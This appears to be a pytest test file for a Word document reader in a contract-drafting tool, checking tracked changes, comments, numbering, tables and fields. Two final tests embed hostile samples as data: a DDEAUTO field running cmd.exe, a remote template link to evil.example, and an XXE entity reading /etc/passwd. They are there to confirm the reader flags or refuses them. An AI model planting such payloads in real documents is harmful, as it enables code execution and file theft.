"""What the counterpart sends back in Word: the cases of the bug log's group B, each built by hand."""

from __future__ import annotations

import pytest
from wordparts import STRICT, W, docx, gone, ins, item, keys, level, lines, lists, p, r, read

from ssc_drafter.readers.reading import Refusal

DELETED = '<w:del w:id="9" w:author="Counterpart" w:date="2026-03-01T09:00:00Z"/>'
INSERTED = '<w:ins w:id="9" w:author="Counterpart" w:date="2026-03-01T09:00:00Z"/>'


def test_b1_a_replacement_stands_in_each_view_and_is_one_change() -> None:
    file = docx(p(r("shall pay ") + gone("30") + ins("60") + r(" days")))
    assert read(file).text == "shall pay 60 days"
    assert read(file, "original").text == "shall pay 30 days"
    note = next(note for note in read(file).notes if note.key == "readers.tracked_rep")
    assert note.values == {"author": "Counterpart", "date": "2026-03-01", "text": "30", "new": "60"}
    assert "shall pay" in note.where


def test_b2_a_wholly_inserted_article_is_absent_from_the_original_and_counts_only_when_accepted() -> None:
    numbering = lists(level(0, "decimal", "Article %1"))
    body = item("Purpose") + item(ins("Audit"), mark=INSERTED) + item("Duration")
    assert lines(body, numbering=numbering) == ["Article 1 Purpose", "Article 2 Audit", "Article 3 Duration"]
    assert lines(body, "original", numbering=numbering) == ["Article 1 Purpose", "Article 2 Duration"]


def test_b3_every_change_is_named_and_a_summary_says_that_they_were_taken_as_accepted() -> None:
    found = read(docx(p(r("a") + ins("b")) + p(gone("c", "Second author") + r("d"))))
    assert keys(found) == ["tracked", "tracked_ins", "tracked_del"]
    assert found.notes[0].values == {"count": "2", "authors": "Counterpart, Second author"}


def test_b4_a_deleted_paragraph_mark_joins_and_an_inserted_one_parts() -> None:
    joined = p("first half ", mark=DELETED) + p("second half")
    assert (lines(joined), lines(joined, "original")) == (["first half second half"], ["first half ", "second half"])
    parted = p("first half ", mark=INSERTED) + p("second half")
    assert (lines(parted), lines(parted, "original")) == (["first half ", "second half"], ["first half second half"])
    assert "tracked_joined" in keys(read(docx(joined)))
    assert "tracked_split" in keys(read(docx(parted)))


def test_b4_a_deleted_row_goes_and_a_moved_paragraph_is_one_move() -> None:
    row = "<w:tr><w:trPr>{}</w:trPr><w:tc>{}</w:tc></w:tr>"
    table = f"<w:tbl>{row.format('', p('kept'))}{row.format(DELETED, p(gone('lost')))}</w:tbl>"
    assert (lines(table), lines(table, "original")) == (["kept"], ["kept", "lost"])
    assert "tracked_row_out" in keys(read(docx(table)))
    moved = (
        p(
            f'<w:moveFrom w:id="3" w:author="A" w:date="2026-03-01T00:00:00Z">{r("One clause.")}</w:moveFrom>',
            mark='<w:moveFrom w:id="4"/>',
        )
        + p("Two.")
        + p(
            f'<w:moveTo w:id="5" w:author="A" w:date="2026-03-01T00:00:00Z">{r("One clause.")}</w:moveTo>',
            mark='<w:moveTo w:id="6"/>',
        )
        + p("Three.")
    )
    assert lines(moved) == ["Two.", "One clause.", "Three."]
    assert lines(moved, "original") == ["One clause.", "Two.", "Three."]
    assert keys(read(docx(moved))) == ["tracked", "tracked_move"]


def test_b6_deleted_paragraphs_take_no_number_and_both_numbers_are_said() -> None:
    numbering = lists(level(0, "decimal", "Article %1."))
    body = item("Scope") + item(gone("Gifts"), mark=DELETED) + item("Costs")
    found = read(docx(body, numbering=numbering))
    assert found.text.split("\n") == ["Article 1. Scope", "Article 2. Costs"]
    note = next(note for note in found.notes if note.key == "readers.renumbered")
    assert (note.values["old"], note.values["new"]) == ("Article 3.", "Article 2.")


def test_b7_words_struck_by_hand_stay_and_are_reported() -> None:
    found = read(docx(p(r("pays ") + r("EUR 500", "<w:strike/>") + r(" EUR 900")) + p(r("whole", "<w:strike/>"))))
    assert found.text == "pays EUR 500 EUR 900\nwhole"
    assert [each.marks for each in found.stretches] == [("strike_part",), ("strike",)]
    assert [note.values for note in found.notes if note.key == "readers.struck_part"] == [{"words": "EUR 500"}]


def test_b8_b9_comments_with_their_author_anchor_answer_and_state() -> None:
    start, end = '<w:commentRangeStart w:id="{0}"/>', '<w:commentRangeEnd w:id="{0}"/>'
    body = (
        p(start.format(0) + ins("twelve months") + end.format(0))
        + p(start.format(1) + r("ends here"))
        + p(r("and here") + end.format(1))
        + f"<w:tbl><w:tr><w:tc>{p(start.format(2) + r('in a cell') + end.format(2))}</w:tc></w:tr></w:tbl>"
    )
    one = '<w:comment w:id="{0}" w:author="{1}" w:date="2026-02-02T00:00:00Z"><w:p w14:paraId="A{0}"><w:r><w:t>{2}</w:t></w:r></w:p></w:comment>'
    comments = (
        one.format(0, "Lee", "too long?")
        + one.format(1, "Diop", "yes")
        + one.format(2, "Lee", "done")
        + one.format(3, "Diop", "I agree")
    )
    threads = '<w15:commentEx w15:paraId="A2" w15:done="1"/><w15:commentEx w15:paraId="A3" w15:paraIdParent="A0" w15:done="0"/>'
    found = [note for note in read(docx(body, comments=comments, commentsExtended=threads)).notes if "comment" in note.key]
    assert [(note.key.removeprefix("readers."), note.values["author"], note.values["anchor"]) for note in found] == [
        ("comment", "Lee", "twelve months"),
        ("comment", "Diop", "ends here and here"),
        ("comment_done", "Lee", "in a cell"),
        ("comment_answer", "Diop", ""),
    ]
    assert found[3].values["parent"] == "Lee"


def test_b10_content_controls_in_all_five_places_are_read_once_and_in_order() -> None:
    control = "<w:sdt><w:sdtPr/><w:sdtContent>{}</w:sdtContent></w:sdt>"
    cell = "<w:tc>{}</w:tc>"
    body = (
        control.format(p("block"))
        + p(control.format(r("inline")))
        + control.format(f"<w:tbl><w:tr>{cell.format(p('around a table'))}</w:tr></w:tbl>")
        + f"<w:tbl>{control.format('<w:tr>' + cell.format(p('around a row')) + '</w:tr>')}"
        + f"<w:tr>{control.format(cell.format(p('around a cell')))}</w:tr></w:tbl>"
        + p(
            f"<w:r><w:pict><v:shape><v:textbox><w:txbxContent>{control.format(p('in a box'))}</w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
        )
    )
    assert [line for line in lines(body) if line] == [
        "block",
        "inline",
        "around a table",
        "around a row",
        "around a cell",
        "in a box",
    ]


def test_b11_deleted_words_in_a_content_control_stay_deleted() -> None:
    assert lines(p(f"<w:sdt><w:sdtContent>{r('kept ')}{gone('lost')}</w:sdtContent></w:sdt>")) == ["kept "]


def test_b12_a_box_drawn_for_new_and_old_words_is_read_once() -> None:
    box = "<w:txbxContent>" + p("in the box") + "</w:txbxContent>"
    drawn = (
        f'<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wps:txbx>{box}</wps:txbx></w:drawing></mc:Choice>'
        f"<mc:Fallback><w:pict><v:textbox>{box}</v:textbox></w:pict></mc:Fallback></mc:AlternateContent></w:r>"
    )
    found = read(docx(p(r("anchor") + drawn) + p("after")))
    assert found.text.split("\n") == ["anchor", "in the box", "after"]
    assert found.stretches[1].marks == ("box",)


NUMBERED = [
    (
        level(0, "upperRoman", "Article %1.") + level(1, "decimalZero", "Section %1.%2", "<w:isLgl/>"),
        ["Article I. x", "Section 1.01 x"],
    ),
    (level(0, "upperRoman", "Article %1.") + level(1, "decimalZero", "Section %1.%2"), ["Article I. x", "Section I.01 x"]),
    (level(0, "none", "Preamble") + level(1, "lowerLetter", "(%2)"), ["Preamble x", "(a) x"]),
    (level(0, "none", "") + level(1, "none", "%2"), ["x", "x"]),
    (level(0, "ordinalText", "%1") + level(1, "cardinalText", "%2:"), ["First x", "One: x"]),
    (level(0, "ordinal", "%1") + level(1, "lowerRoman", "%1-%2"), ["1st x", "1st-i x"]),
    (level(0, "decimal", "%1)", '<w:suff w:val="nothing"/>', 9) + level(1, "upperLetter", "%2", start=28), ["9)x", "BB x"]),
    (level(0, "bullet", "") + level(1, "arabicAbjad", "%2"), ["x", "أ x"]),
]


@pytest.mark.parametrize(("definition", "printed"), NUMBERED)
def test_b14_b15_numbers_stand_as_word_prints_them(definition: str, printed: list[str]) -> None:
    assert lines(item("x") + item("x", level=1), numbering=lists(definition)) == printed


def test_b14_lists_go_on_restart_and_override() -> None:
    numbers = (
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num><w:num w:numId="2"><w:abstractNumId w:val="0"/></w:num>'
        '<w:num w:numId="3"><w:abstractNumId w:val="0"/><w:lvlOverride w:ilvl="0"><w:startOverride w:val="1"/></w:lvlOverride></w:num>'
        '<w:num w:numId="4"><w:abstractNumId w:val="0"/><w:lvlOverride w:ilvl="0">'
        '<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="%1)"/></w:lvl></w:lvlOverride></w:num>'
    )
    numbering = lists(
        level(0, "decimal", "%1."),
        level(1, "lowerLetter", "%2)"),
        level(2, "decimal", "%3", '<w:lvlRestart w:val="0"/>'),
        numbers=numbers,
    )
    body = (
        item("a")
        + item("b", level=1)
        + item("c", level=2)
        + p("between")
        + item("d", "2")
        + item("e", "2", 1)
        + item("f", "2", 2)
    )
    body += item("g", "3") + item("h", "3") + item("i", "4")
    assert lines(body, numbering=numbering) == ["1. a", "a) b", "1 c", "between", "2. d", "a) e", "2 f", "1. g", "2. h", "c) i"]


def test_b14_numbers_come_from_styles_and_headings_have_their_level() -> None:
    styles = (
        '<w:style w:type="paragraph" w:styleId="Titre1"><w:name w:val="heading 1"/><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'
        '<w:style w:type="paragraph" w:styleId="Para"><w:name w:val="Clause"/><w:basedOn w:val="Base"/></w:style>'
        '<w:style w:type="paragraph" w:styleId="Base"><w:name w:val="Base"/><w:pPr><w:numPr><w:ilvl w:val="1"/><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'
    )
    numbering = lists(level(0, "decimal", "Article %1", '<w:pStyle w:val="Titre1"/>'), level(1, "decimal", "%1.%2"))
    silent = p("no number", "Para", '<w:numPr><w:numId w:val="0"/></w:numPr>')
    found = read(
        docx(
            p("Objet", "Titre1") + p("Un", "Para") + silent + p("Durée", "Titre1") + p("Deux", "Para"),
            styles=styles,
            numbering=numbering,
        )
    )
    assert found.text.split("\n") == ["Article 1 Objet", "1.1 Un", "no number", "Article 2 Durée", "2.1 Deux"]
    assert [(each.kind, each.level, each.label, each.style) for each in found.stretches][:2] == [
        ("heading", 1, "Article 1", "heading 1"),
        ("item", 2, "1.1", "Clause"),
    ]


@pytest.mark.parametrize(
    "parts",
    [
        {},
        {"numbering": ""},
        {"numbering": '<w:num w:numId="1"/>'},
        {
            "numbering": '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
        },
        {"numbering": '<w:num w:numId="1"><w:abstractNumId w:val="7"/></w:num>'},
        {"numbering": '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="x"><w:start w:val="z"/></w:lvl></w:abstractNum>'},
    ],
)
def test_b17_broken_numbering_never_stops_the_import(parts: dict[str, str]) -> None:
    assert lines(item("Purpose") + item("Scope", "99"), **parts) == ["Purpose", "Scope"]
    assert "lost_numbering" in keys(read(docx(item("Purpose") + item("Scope", "99"), **parts)))


def test_b18_merged_cells_once_and_nested_tables_in_their_place() -> None:
    nested = f"<w:tbl><w:tr><w:tc>{p('nested')}</w:tc></w:tr></w:tbl>"
    body = (
        f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2"/></w:tcPr>{p("wide")}</w:tc></w:tr>'
        f'<w:tr><w:tc><w:tcPr><w:vMerge w:val="restart"/></w:tcPr>{p("tall")}</w:tc><w:tc>{p("before")}{nested}{p("after")}</w:tc></w:tr>'
        f"<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr>{p('covered')}</w:tc><w:tc>{p('last')}</w:tc></w:tr></w:tbl>"
    )
    assert lines(body) == ["wide", "tall", "before", "nested", "after", "last"]


def test_b20_strict_files_are_read_like_others() -> None:
    file = docx(p("Article 1"))
    strict = docx(
        p("Article 1"),
        more={"word/document.xml": f'<w:document xmlns:w="{STRICT}"><w:body>{p("Article 1")}</w:body></w:document>'.encode()},
    )
    assert read(strict).text == read(file).text == "Article 1"
    assert STRICT != W


def test_b21_fields_and_links_give_what_they_show_and_nothing_else() -> None:
    field = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    instruction = "<w:r><w:instrText> REF _Ref1 \\r \\h </w:instrText></w:r>"
    nested = (
        field.format("begin")
        + "<w:r><w:instrText> IF </w:instrText></w:r>"
        + field.format("begin")
        + instruction
        + field.format("end")
    )
    nested += (
        '<w:r><w:instrText> = 1 "a" "b"</w:instrText></w:r>' + field.format("separate") + r("Annex 2") + field.format("end")
    )
    body = p(
        r("see ")
        + f'<w:hyperlink r:id="x">{r("this link")}</w:hyperlink>'
        + r(" and ")
        + nested
        + '<w:fldSimple w:instr="PAGE">'
        + r(" 7")
        + "</w:fldSimple>"
    )
    assert lines(f"<w:tbl><w:tr><w:tc>{body}</w:tc></w:tr></w:tbl>") == ["see this link and Annex 2 7"]


def test_b22_special_characters_are_kept_or_named() -> None:
    run = '<w:r><w:t>non</w:t><w:noBreakHyphen/><w:t>refoulement</w:t><w:tab/><w:sym w:font="Wingdings" w:char="F0FC"/>{}</w:r>'
    assert lines(p(run.format('<w:sym w:font="Odd" w:char="F041"/>'))) == ["non\u2011refoulement\t✓[symbol Odd 41]"]
    assert lines(p(run.format('<w:sym w:font="Symbol" w:char="F0A3"/>'))) == ["non\u2011refoulement\t✓≤"]


def test_b23_notes_are_numbered_in_the_order_of_the_text_and_stand_behind_it() -> None:
    call = '<w:r><w:footnoteReference w:id="{}"/></w:r>'
    note = '<w:footnote w:id="{}">{}</w:footnote>'
    notes = (
        '<w:footnote w:id="0" w:type="separator"><w:p/></w:footnote>' + note.format(7, p("seven")) + note.format(3, p("three"))
    )
    found = read(docx(p(r("a") + call.format(3)) + p(r("b") + call.format(7)), footnotes=notes))
    assert found.text.split("\n") == ["a", "b", "1 three", "2 seven"]
    assert [each.marks for each in found.stretches] == [(), (), ("note",), ("note",)]


def test_hidden_words_are_no_text_but_are_reported() -> None:
    found = read(docx(p(r("The fee is waived") + r(" unless we say otherwise", "<w:vanish/>"))))
    assert found.text == "The fee is waived"
    assert [(note.key, note.values["words"]) for note in found.notes] == [("readers.hidden", "unless we say otherwise")]


def test_a_heading_that_runs_into_its_paragraph_keeps_its_number() -> None:
    numbering = lists(level(0, "decimal", "%1."))
    body = item(r("Costs. "), mark="<w:vanish/><w:specVanish/>") + p("Each Party pays.") + item("Term")
    assert lines(body, numbering=numbering) == ["1. Costs. Each Party pays.", "2. Term"]


def test_the_table_of_contents_is_marked_and_line_breaks_make_lines() -> None:
    control = '<w:sdt><w:sdtPr><w:docPartObj><w:docPartGallery w:val="Table of Contents"/></w:docPartObj></w:sdtPr><w:sdtContent>{}</w:sdtContent></w:sdt>'
    found = read(docx(control.format(p("Article 1 ..... 3")) + p("<w:r><w:t>Article 1</w:t><w:br/><w:t>Purpose</w:t></w:r>")))
    assert [(found.text[each.start : each.end], each.marks) for each in found.stretches] == [
        ("Article 1 ..... 3", ("toc",)),
        ("Article 1", ()),
        ("Purpose", ("line",)),
    ]


def test_t07_what_points_outside_is_named_and_what_was_not_read_too() -> None:
    outside = '<Relationship Id="t" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    dde = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    body = p(dde + r("shown words") + '<w:r><w:fldChar w:fldCharType="end"/></w:r>') + '<w:altChunk r:id="c"/>'
    found = read(docx(body, relations=outside, more={"word/embeddings/oleObject1.bin": b"x"}))
    assert found.text == "shown words"
    assert {"points_outside", "active_field", "unread_part", "embedded"} <= set(keys(found))
    assert any("evil.example" in note.values.get("address", "") for note in found.notes)


@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", "word/header1.xml"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-be"])
def test_t06_a_document_type_is_refused_in_every_part_and_encoding(part: str, encoding: str) -> None:
    text = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w xmlns="{W}">&a;</w>'
    with pytest.raises(Refusal) as refused:
        read(docx(p("x"), styles="", more={part: text.encode(encoding)}))
    assert refused.value.key in ("readers.document_type", "readers.broken_xml")
